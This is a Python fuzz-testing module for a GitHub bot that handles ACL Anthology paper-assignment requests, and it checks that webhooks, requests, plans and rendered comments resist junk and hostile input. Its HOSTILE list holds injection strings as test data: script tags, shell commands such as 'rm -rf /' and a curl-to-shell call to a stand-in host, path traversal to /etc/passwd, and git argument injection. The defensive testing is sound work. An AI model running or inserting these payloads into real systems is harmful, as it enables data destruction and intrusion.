"""Fuzz targets: what must hold for any input, and the strategies that generate inputs.

Used by ``tests/test_fuzz.py`` (a fixed number of examples per target, in CI)
and by ``bench/fuzz.py --examples N`` (longer runs). Each target is a
strategy and a check; the check raises AssertionError (or any exception) when
the property is broken:

``webhook``
    ``POST /webhook`` with random headers and bodies: junk bytes, garbled UTF-8,
    random JSON, GitHub-shaped payloads with fields replaced by junk, signed
    with the right secret or not. Never a 500: always JSON, 2xx with a status,
    or 4xx with an ``error`` saying why.
``request_json``
    ``bot.engine.request.request_from_json`` on random JSON: a Request, or
    RequestFormatError with a message; nothing else.
``plan``
    The planner on the sample data with random requests (real pages, papers and
    persons mixed with junk, hostile names, path traversal, too many papers):
    never raises; problems are explained; the files a plan edits are XML files
    of the data or people.json; the status comment, pull request body and plan
    render, stay under GitHub's comment limit and carry no active markup from
    the input.
``issue``
    An issue form filled with hostile answers, read with the data, planned and
    rendered: the same properties, from the issue body on.
"""

from __future__ import annotations

import atexit
import json
import re
import shutil
import string
import tempfile
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

from flask.testing import FlaskClient
from hypothesis import strategies as st

from bot.anthology.names import Name
from bot.config import Settings
from bot.engine.dataset import AnthologyData
from bot.engine.planner import World
from bot.engine.request import Request, RequestFormatError, Target, request_from_json
from bot.forms import parse_issue
from bot.forms.body import render_form_body
from bot.queue.stores import open_store
from bot.text.comments import IssueStatus, PreviewLinks, PullLink, pull_body, render_status_comment
from bot.text.render import render_plan
from bot.web.app import create_app
from demo.run import SEED_ANSWERS, SEED_TITLE
from tests.github_standin import build_delivery
from tests.github_standin.webhooks import sign

REPO_ROOT = Path(__file__).resolve().parent.parent
SAMPLE_DATA = REPO_ROOT / "sample" / "data"
SECRET = "fuzzing-webhook-secret"
REPO = "acl-org/acl-anthology"
GITHUB_COMMENT_LIMIT = 65536

HOSTILE = [
    '</author><author id="x">',
    '"><author id="evil">',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "@everyone",
    "@acl-org/anthology-admins",
    "[click me](javascript:alert(1))",
    "](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.png)",
    "<!-- hidden -->",
    "-->",
    "| injected | table |",
    "`code` **bold** _it_ ~~x~~",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(rm -rf /)",
    "; rm -rf / #",
    "&& curl evil.example | sh",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "data/../../etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "--upload-pack=touch /tmp/pwned",
    "-oProxyCommand=evil",
    "closes #1",
    "\u202egnp.exe",
    "\x00\x01\x1b[31m",
    "Ｊａｎｅ",
    "x" * 3000,
]
"""Strings that would do harm if the bot passed them on unescaped, or used them as paths."""

ACTIVE_MARKUP = re.compile(
    r"(?<!\\)(?:<script|<img|</?author|\]\(javascript:|!\[tracker\]\()", re.IGNORECASE
)
"""Markup from :data:`HOSTILE` that would be live; a backslash before it makes it literal text."""
MENTION = re.compile(r"(?<![\w@\\])@(?=[A-Za-z0-9])")
UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")
PLAN_FILE = re.compile(r"(?:xml/[A-Za-z0-9][A-Za-z0-9._-]*\.xml|json/people\.json)")


def orcid_with_check_digit(base15: str) -> str:
    """A valid ORCID iD (ISO 7064 MOD 11-2 check digit) from 15 digits."""
    total = 0
    for digit in base15:
        total = (total + int(digit)) * 2
    result = (12 - total % 11) % 11
    check = "X" if result == 10 else str(result)
    digits = base15 + check
    return "-".join(digits[i : i + 4] for i in range(0, 16, 4))


# -- the sample data, opened once per process ---------------------------------------------


@dataclass(frozen=True)
class SampleWorld:
    """The sample data opened for planning, and what is on it."""

    data: AnthologyData
    pages: dict[str, list[str]]  # author page -> the items on it
    person_ids: list[str]
    orcids: list[str]
    items: list[str]


@cache
def sample_world() -> SampleWorld:
    """A private copy of the sample data (removed at exit), its index and its pages."""
    root = Path(tempfile.mkdtemp(prefix="fuzz-sample-"))
    atexit.register(shutil.rmtree, root, True)
    data_dir = Path(shutil.copytree(SAMPLE_DATA, root / "data"))
    data = AnthologyData(data_dir, root / "index.sqlite")
    world = World(data.people, data.index.verified_holders)
    pages: dict[str, list[str]] = {}
    items = sorted(data.index.all_item_ids())
    for item in items:
        for slot in data.index.slots_of_item(item):
            page = world.page_of(slot.name, slot.person_id)
            pages.setdefault(page, [])
            if item not in pages[page]:
                pages[page].append(item)
    person_ids = sorted(pid for pid in pages if "/" not in pid)
    orcids = sorted(
        {p.orcid for pid in person_ids[:300] if (p := data.people.get(pid)) and p.orcid}
    )
    return SampleWorld(data, pages, person_ids, orcids, items)


# -- strategies ----------------------------------------------------------------------------

junk_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.text(alphabet=string.ascii_letters + string.digits + "-./:_ ", max_size=30),
)

json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | junk_text,
    lambda children: (
        st.lists(children, max_size=5)
        | st.dictionaries(
            st.one_of(junk_text, st.sampled_from(["number", "body"])), children, max_size=5
        )
    ),
    max_leaves=25,
)


@st.composite
def request_jsons(draw: st.DrawFn) -> Any:
    """JSON close to the request contract, with any part replaced by junk."""
    if rarely(draw, 10):
        return draw(json_values)

    def sometimes_junk(strategy: st.SearchStrategy[Any]) -> Any:
        return draw(json_values) if rarely(draw, 6) else draw(strategy)

    target: Any = {"kind": sometimes_junk(st.sampled_from(["existing", "new", "unverified"]))}
    for key in ("id", "orcid", "degree"):
        if draw(st.booleans()):
            target[key] = sometimes_junk(junk_text)
    if draw(st.booleans()):
        target["name"] = draw(
            st.one_of(
                st.fixed_dictionaries({"first": junk_text, "last": junk_text}),
                st.fixed_dictionaries({"last": json_values}),
                json_values,
            )
        )
    data: dict[str, Any] = {
        "source": sometimes_junk(junk_text),
        "papers": sometimes_junk(st.lists(junk_text, max_size=8)),
        "target": sometimes_junk(st.just(target)),
    }
    if draw(st.booleans()):
        data["notes"] = sometimes_junk(junk_text)
    if rarely(draw, 5):
        for key in draw(st.lists(st.sampled_from(["source", "papers", "target"]), max_size=2)):
            data.pop(key, None)
    return data


def rarely(draw: st.DrawFn, one_in: int) -> bool:
    """True about once in ``one_in`` draws (Hypothesis favours the first, "simplest" value)."""
    return draw(st.sampled_from([False] * (one_in - 1) + [True]))


def _some(draw: st.DrawFn, values: list[str]) -> str:
    return values[draw(st.integers(0, len(values) - 1))]


@st.composite
def names(draw: st.DrawFn) -> Name | None:
    if rarely(draw, 5):
        return None
    first = draw(st.one_of(st.none(), junk_text, st.sampled_from(["Jane", "Zhang", "Ana María"])))
    last = draw(st.one_of(junk_text, st.sampled_from(["Doe", "Hui", "O'Brien"])))
    return Name(first, last)


@st.composite
def targets(draw: st.DrawFn) -> Target:
    world = sample_world()
    kind = draw(st.sampled_from(["existing", "new", "unverified"]))
    if kind == "existing":
        pid = draw(st.one_of(st.just(_some(draw, world.person_ids)), junk_text))
        return Target("existing", id=pid)
    if kind == "unverified":
        return Target("unverified")
    valid_orcid = st.text(alphabet="0123456789", min_size=15, max_size=15).map(
        orcid_with_check_digit
    )
    orcid = draw(
        st.one_of(
            valid_orcid,
            valid_orcid,
            valid_orcid,
            st.none(),
            st.just(_some(draw, world.orcids)) if world.orcids else st.none(),
            junk_text,
        )
    )
    return Target(
        "new",
        id=draw(st.one_of(st.none(), junk_text, st.sampled_from(["jane-doe", "x", "a-b-1"]))),
        orcid=orcid,
        degree=draw(st.one_of(st.none(), junk_text)),
        name=draw(names()),
    )


@st.composite
def requests_on_sample(draw: st.DrawFn) -> Request:
    """A request about the sample data: mostly real pages and papers, with junk mixed in."""
    world = sample_world()
    pages = sorted(world.pages)
    source = _some(draw, pages)
    form = draw(st.sampled_from(["id"] * 8 + ["url", "junk"]))
    if form == "url":
        source = f"https://aclanthology.org/people/{source}/"
    elif form == "junk":
        source = draw(junk_text)
    on_page = world.pages.get(source, [])
    count = draw(st.sampled_from([1, 2, 3, 1, 2, 5, 8, 0, 201]))
    papers: list[str] = []
    for _ in range(min(count, 40)):
        choice = draw(st.sampled_from([0] * 7 + [7, 8, 9]))
        if choice == 0 and on_page:
            papers.append(_some(draw, on_page))
        elif choice == 7:
            papers.append(_some(draw, world.items))
        elif choice == 8:
            papers.append(f"https://aclanthology.org/{_some(draw, on_page or world.items)}.pdf")
        else:
            papers.append(draw(junk_text))
    if count > 40:  # more than the planner takes: refused with one problem
        papers += [world.items[i % len(world.items)] for i in range(count)]
    return Request(source, tuple(papers), draw(targets()), notes=draw(junk_text))


@st.composite
def hostile_issues(draw: st.DrawFn) -> tuple[str, str]:
    """The assignment form with hostile or random answers in some fields."""
    world = sample_world()
    answers: dict[str, str | None] = dict(SEED_ANSWERS)
    for key in draw(st.lists(st.sampled_from(sorted(answers)), max_size=4, unique=True)):
        answers[key] = draw(junk_text)
    if draw(st.booleans()):
        page = _some(draw, sorted(world.pages))
        answers["author_page"] = f"https://aclanthology.org/people/{page}/"
        answers["papers"] = "\n".join(world.pages[page][:3])
    if draw(st.booleans()):
        answers["name"] = draw(st.sampled_from(HOSTILE))
    if draw(st.booleans()):
        answers["notes"] = "\n".join(draw(st.lists(st.sampled_from(HOSTILE), max_size=4)))
    title = draw(st.one_of(st.just(SEED_TITLE), junk_text))
    return title, render_form_body(answers)


# -- checks: rendering -----------------------------------------------------------------------


def check_markdown(text: str) -> None:
    """What the bot writes on GitHub: no active markup or mention from the input, fits."""
    assert len(text) < GITHUB_COMMENT_LIMIT, len(text)
    live = [text[max(0, m.start() - 30) : m.end() + 30] for m in ACTIVE_MARKUP.finditer(text)]
    assert not live, live
    mentions = [m.start() for m in MENTION.finditer(text)]
    assert not mentions, [text[max(0, i - 20) : i + 20] for i in mentions]
    assert text.count("<!--") == text.count("-->"), text[:2000]
    # Every row of a table has the columns of its header: typed text never adds one.
    columns: int | None = None
    for line in text.splitlines():
        if not (line.startswith("|") and line.rstrip().endswith("|")):
            columns = None  # a table ends at the first line that is not a row
            continue
        pipes = len(UNESCAPED_PIPE.findall(line))
        if columns is None:
            columns = pipes
        assert pipes == columns, line


def render_everything(plan_or_none: Any, problems: tuple[Any, ...]) -> list[str]:
    """Every text the bot would post about this plan or these problems."""
    texts = [render_status_comment(IssueStatus("questions", plan=plan_or_none, problems=problems))]
    if plan_or_none is not None:
        plan = plan_or_none
        texts.append(render_plan(plan))
        if plan.ok:
            previews = PreviewLinks(
                "https://preview.aclanthology.org/bot-paper-assignment-1/",
                tuple((p, f"https://preview.aclanthology.org/x/people/{p}/") for p in
                      (plan.source_page, plan.target_page) if p),
            )  # fmt: skip
            status = IssueStatus(
                "proposed",
                plan=plan,
                pull=PullLink(2, "https://github.com/acl-org/acl-anthology/pull/2"),
                branch="bot/paper-assignment-1",
                previews=previews,
            )
            texts.append(render_status_comment(status))
            texts.append(
                pull_body(plan, 1, "https://github.com/acl-org/acl-anthology/issues/1", previews)
            )
    return texts


def check_plan_result(plan: Any) -> str:
    world = sample_world()
    for problem in plan.problems:
        assert problem.field and problem.message.strip() and problem.code, problem
    for name in plan.files():
        assert PLAN_FILE.fullmatch(name), name
        assert (world.data.data_dir / name).is_file(), name
    for change in plan.slot_changes:
        assert "/" not in change.file and ".." not in change.file, change.file
    if plan.ok:
        assert len(plan.moves) <= 200
    for text in render_everything(plan, tuple(plan.problems)):
        check_markdown(text)
    if plan.ok:
        return f"plan ok ({'new person' if plan.request.target.kind == 'new' else 'other'})"
    return f"plan refused: {plan.problems[0].code}" if plan.problems else "plan: nothing to do"


# -- the targets ---------------------------------------------------------------------------


def check_request_json(data: Any) -> str:
    try:
        request = request_from_json(data)
    except RequestFormatError as exc:
        assert str(exc).strip()
        return "refused"
    assert isinstance(request.source, str) and request.source
    assert all(isinstance(p, str) and p for p in request.papers)
    assert request.target.kind in ("existing", "new", "unverified")
    json.dumps(request.to_json())
    return f"request ({request.target.kind})"


def check_plan(request: Request) -> str:
    return check_plan_result(sample_world().data.plan(request))


def check_issue(issue: tuple[str, str]) -> str:
    title, body = issue
    world = sample_world()
    result = parse_issue(title, body, lookup=world.data)
    if result.request is None:
        assert result.problems
        for text in render_everything(None, tuple(result.problems)):
            check_markdown(text)
        return f"questions: {result.problems[0].code}"
    return check_plan_result(world.data.plan(result.request))


@cache
def webhook_client() -> FlaskClient:
    """The web app on a fresh SQLite store in a temporary directory."""
    root = Path(tempfile.mkdtemp(prefix="fuzz-web-"))
    atexit.register(shutil.rmtree, root, True)
    settings = Settings.from_env(
        {"BOT_STATE_DIR": str(root), "GITHUB_WEBHOOK_SECRET": SECRET, "BOT_LOGIN": "the-bot"}
    )
    app = create_app(settings, store=open_store(settings.queue_url))
    return app.test_client()


def _issue_payload() -> dict[str, Any]:
    return {
        "action": "opened",
        "issue": {
            "number": 7,
            "title": SEED_TITLE,
            "body": render_form_body(dict(SEED_ANSWERS)),
            "labels": [{"name": "correction"}],
            "user": {"login": "someone", "type": "User"},
        },
        "comment": {"id": 3, "body": "/apply", "user": {"login": "someone", "type": "User"}},
        "pull_request": {"number": 8, "merged": True, "head": {"ref": "bot/paper-assignment-7"}},
        "label": {"name": "meta:move"},
        "repository": {"full_name": REPO, "default_branch": "master"},
        "sender": {"login": "someone", "type": "User"},
        "installation": {"id": 4242},
        "ref": "refs/heads/master",
    }


@st.composite
def mutated_payloads(draw: st.DrawFn) -> Any:
    """A GitHub-shaped payload with some fields, at any depth, replaced by junk."""
    payload = _issue_payload()
    for _ in range(draw(st.integers(0, 4))):
        node: Any = payload
        path = draw(st.lists(st.sampled_from(["issue", "comment", "pull_request", "repository",
                                              "sender", "label", "labels", "user", "head",
                                              "number", "body", "title", "action", "login",
                                              "full_name", "type", "ref", "merged", "id"]),
                             min_size=1, max_size=3))  # fmt: skip
        for key in path[:-1]:
            if isinstance(node, dict) and isinstance(node.get(key), dict):
                node = node[key]
        if isinstance(node, dict):
            node[path[-1]] = draw(json_values)
    return payload


EVENTS = ["issues", "issue_comment", "pull_request", "push", "ping", "star", "installation"]


@st.composite
def deliveries(draw: st.DrawFn) -> tuple[dict[str, str], bytes]:
    """Headers and a body for ``POST /webhook``."""
    kind = draw(st.sampled_from(["payload"] * 4 + ["bytes", "json", "garbled", "nested"]))
    if kind == "bytes":
        body = draw(st.binary(max_size=300))
    elif kind == "json":
        body = json.dumps(draw(json_values)).encode("utf-8", "surrogatepass")
    elif kind == "garbled":
        raw = json.dumps(draw(mutated_payloads())).encode("utf-8", "surrogatepass")
        cut = draw(st.integers(0, len(raw)))
        body = raw[:cut] + draw(st.binary(max_size=5)) if draw(st.booleans()) else raw
    elif kind == "nested":
        body = b"[" * draw(st.integers(1, 5000)) + b"]" * draw(st.integers(0, 5000))
    else:
        body = json.dumps(draw(mutated_payloads()), ensure_ascii=False).encode(
            "utf-8", "surrogatepass"
        )
    event = draw(st.sampled_from(EVENTS))
    if rarely(draw, 6):
        event = draw(st.text(string.printable.strip(), max_size=120))
    delivery = draw(st.builds(lambda: str(uuid.uuid4())))  # a fresh id: no accidental repeats
    if rarely(draw, 6):
        delivery = draw(st.text(string.printable.strip(), max_size=200))
    _, headers = build_delivery("issues", {}, SECRET, delivery)
    headers["X-GitHub-Event"] = event
    signing = draw(st.sampled_from(["valid"] * 8 + ["missing", "garbage"]))
    if signing == "missing":
        headers.pop("X-Hub-Signature-256")
    elif signing == "garbage":
        headers["X-Hub-Signature-256"] = draw(st.text(string.printable.strip(), max_size=80))
    else:
        headers["X-Hub-Signature-256"] = sign(body, SECRET)
    if rarely(draw, 10):
        headers.pop("X-GitHub-Delivery")
    return headers, body


def check_webhook(delivery: tuple[dict[str, str], bytes]) -> str:
    headers, body = delivery
    response = webhook_client().post("/webhook", data=body, headers=headers)
    assert response.status_code in (200, 202, 400, 401, 413), (response.status_code, body[:200])
    answer = response.get_json(silent=True)
    assert isinstance(answer, dict), response.data[:200]
    if response.status_code >= 400:
        assert isinstance(answer.get("error"), str) and answer["error"].strip(), answer
    else:
        assert answer.get("status") in ("pong", "duplicate", "ignored", "queued"), answer
        assert (answer["status"] == "queued") == (response.status_code == 202)
    return f"{response.status_code} {answer.get('status') or answer.get('error')}"


@dataclass(frozen=True)
class Target_:
    """A fuzz target: a strategy and the property every example must have."""

    strategy: st.SearchStrategy[Any]
    check: Callable[[Any], str]
    """Raises when the property is broken; else returns what happened (for statistics)."""


TARGETS: dict[str, Target_] = {
    "webhook": Target_(deliveries(), check_webhook),
    "request_json": Target_(request_jsons(), check_request_json),
    "plan": Target_(requests_on_sample(), check_plan),
    "issue": Target_(hostile_issues(), check_issue),
}
